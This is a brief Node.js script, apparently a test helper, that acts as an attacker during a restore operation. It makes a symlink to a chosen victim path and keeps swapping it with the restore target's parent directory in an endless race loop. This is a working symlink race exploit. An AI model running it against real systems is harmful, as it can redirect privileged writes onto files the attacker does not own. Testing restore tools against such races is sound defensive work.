// Plays the owner of the directory above a restore's target: swaps it for a link to a victim and back.
// Arguments: that directory and the victim.

import * as fs from "node:fs";

const [parent = "", victim = ""] = process.argv.slice(2);
const link = `${parent}.link`;
fs.symlinkSync(victim, link);
if (process.geteuid?.() === 0) fs.lchownSync(link, 12_345, 12_345); // not root's: as the attacker would make it
console.log("at work");
for (;;) {
  try {
    fs.renameSync(parent, `${parent}.aside`);
    fs.renameSync(link, parent);
    fs.renameSync(parent, link);
    fs.renameSync(`${parent}.aside`, parent);
  } catch {
    // somebody made it anew meanwhile
  }
}
